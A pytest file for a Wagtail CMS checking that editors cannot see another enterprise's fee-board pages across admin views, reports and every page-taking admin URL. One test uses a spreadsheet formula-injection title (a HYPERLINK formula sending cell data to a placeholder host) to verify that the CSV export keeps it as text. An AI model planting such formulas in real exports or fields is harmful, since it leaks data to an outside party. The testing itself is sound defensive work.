"""An enterprise's editor never reads another enterprise's board in Wagtail's admin: the
explorer, the page chooser, the move confirmation and the workflow reports' filters."""

import csv
import io

import pytest
from django.urls import NoReverseMatch, get_resolver, reverse
from wagtail.models import Page, WorkflowState

from cms.models import BoardIndexPage, FeeBoardPage
from cms.services import enterprise_staff_grant
from tests.factories import UserFactory
from tests.staff.test_staff_matrix import _walk

pytestmark = pytest.mark.django_db


def _submit(board, user):
    """``user`` submits ``board`` to its enterprise's approval workflow."""
    revision = board.save_revision(user=user)
    board.get_workflow().start(board, user)
    return revision


def test_the_chooser_lists_only_the_editors_own_boards(client, world, roles):
    index = BoardIndexPage.objects.get()
    own, foreign = world["a"]["board"], world["b"]["board"]
    client.force_login(roles["editor_a"])

    browse = client.get(f"/cms/choose-page/{index.pk}/").json()["html"]
    search = client.get("/cms/choose-page/search/", {"q": "公示栏"}).content.decode()

    assert own.title in browse
    assert foreign.title not in browse and foreign.title not in search


def test_the_superuser_still_chooses_any_board(client, world, roles):
    client.force_login(roles["superuser"])
    browse = client.get(f"/cms/choose-page/{BoardIndexPage.objects.get().pk}/").json()["html"]
    assert world["a"]["board"].title in browse and world["b"]["board"].title in browse


def test_the_explorer_lists_only_the_editors_own_boards(client, world, roles):
    index = BoardIndexPage.objects.get()
    client.force_login(roles["editor_b"])

    listing = client.get(f"/cms/pages/{index.pk}/", follow=True).content.decode()
    search = client.get("/cms/pages/search/", {"q": "公示栏"}).content.decode()
    menu = client.get("/cms/api/main/pages/", {"child_of": index.pk, "for_explorer": 1})

    assert world["b"]["board"].title in listing + search
    assert world["a"]["board"].title not in listing + search
    assert world["a"]["board"].title not in menu.content.decode()


def test_the_move_confirmation_does_not_show_another_enterprises_board(client, world, roles):
    foreign = world["a"]["board"]
    home = Page.objects.get(slug="home")
    client.force_login(roles["editor_b"])

    response = client.get(f"/cms/pages/{foreign.pk}/move/{home.pk}/confirm/", follow=True)

    # Wagtail answers a refusal in its admin by sending the user to the dashboard.
    assert response.redirect_chain == [("/cms/", 302)]
    assert foreign.title not in response.content.decode()
    refused = client.post(f"/cms/pages/{foreign.pk}/move/{home.pk}/confirm/")
    assert refused.status_code == 302 and refused["Location"] == "/cms/"
    assert Page.objects.get(pk=foreign.pk).get_parent().pk == BoardIndexPage.objects.get().pk


@pytest.mark.parametrize("report", ["workflow", "workflow_tasks"])
def test_workflow_report_filters_name_only_the_editors_own_workflows(client, world, roles, report):
    _submit(FeeBoardPage.objects.get(pk=world["a"]["board"].pk), roles["editor_a"])
    _submit(FeeBoardPage.objects.get(pk=world["b"]["board"].pk), roles["editor_b"])
    assert WorkflowState.objects.count() == 2
    client.force_login(roles["editor_b"])

    page = client.get(f"/cms/reports/{report}/").content.decode()

    # Workflow and task names read in the editor's language (cms/workflow_names.py).
    jinghua, anju = world["b"]["enterprise"].name, world["a"]["enterprise"].name
    assert f"收费公示审批（{jinghua}）" in page
    assert anju not in page
    assert "fee board approval" not in page and "manager approval" not in page
    assert roles["editor_a"].email not in page and roles["editor_a"].get_full_name() not in page
    assert world["a"]["board"].title not in page


def test_locked_pages_report_names_only_who_locked_the_managers_own_pages(client, world, roles):
    anju_board = FeeBoardPage.objects.get(pk=world["a"]["board"].pk)
    anju_board.locked, anju_board.locked_by = True, roles["enterprise_manager"]
    anju_board.save()
    jinghua_manager = UserFactory(email="jinghua-manager@example.cn", first_name="Q", last_name="M")
    enterprise_staff_grant(
        enterprise=world["b"]["enterprise"], user=jinghua_manager, role="manager"
    )
    client.force_login(jinghua_manager)

    page = client.get("/cms/reports/locked/")

    assert page.status_code == 200
    text = page.content.decode()
    assert roles["enterprise_manager"].email not in text
    assert anju_board.title not in text


def test_the_workflow_reports_csv_keeps_a_formula_title_as_text(client, world, roles):
    board = FeeBoardPage.objects.get(pk=world["a"]["board"].pk)
    board.title = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    _submit(board, roles["editor_a"])
    client.force_login(roles["editor_a"])

    response = client.get("/cms/reports/workflow/", {"export": "csv"})

    assert response["Content-Disposition"].startswith("attachment")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def _page_admin_urls(page_id, other_id):
    """Every Wagtail admin URL that takes a page id, for ``page_id`` (a second page id
    argument, as in a move, is ``other_id``)."""
    urls = set()
    for route, name, pattern in _walk(get_resolver().url_patterns):
        if not route.startswith("cms/") or not name:
            continue
        params = list(getattr(pattern.pattern, "converters", {}) or {})
        if not params or not any("page" in p or p in ("pk", "parent_page_id") for p in params):
            continue
        values, ok = {}, True
        for i, param in enumerate(params):
            if "page" in param or param == "pk":
                values[param] = page_id if i == 0 else other_id
            elif param == "destination_id":
                values[param] = other_id
            elif param in ("content_type_app_name",):
                values[param] = "cms"
            elif param in ("content_type_model_name",):
                values[param] = "feeboardpage"
            else:
                ok = False
        if ok:
            try:
                urls.add(reverse(name, kwargs=values))
            except NoReverseMatch:
                pass
    return sorted(urls)


def test_no_page_admin_view_shows_another_enterprises_board(client, world, roles):
    """Every Wagtail admin address that takes a page id, given Anju's board, as Jinghua's
    editor: none shows its title (found by walking the URL resolver, so a view Wagtail adds
    later is checked too)."""
    foreign = FeeBoardPage.objects.get(pk=world["a"]["board"].pk)
    home = Page.objects.get(slug="home")
    urls = _page_admin_urls(foreign.pk, home.pk)
    assert len(urls) > 20
    client.force_login(roles["editor_b"])
    shown = []
    for url in urls:
        response = client.get(url)
        if response.status_code == 200 and foreign.title in response.content.decode():
            shown.append(url)
    assert shown == []
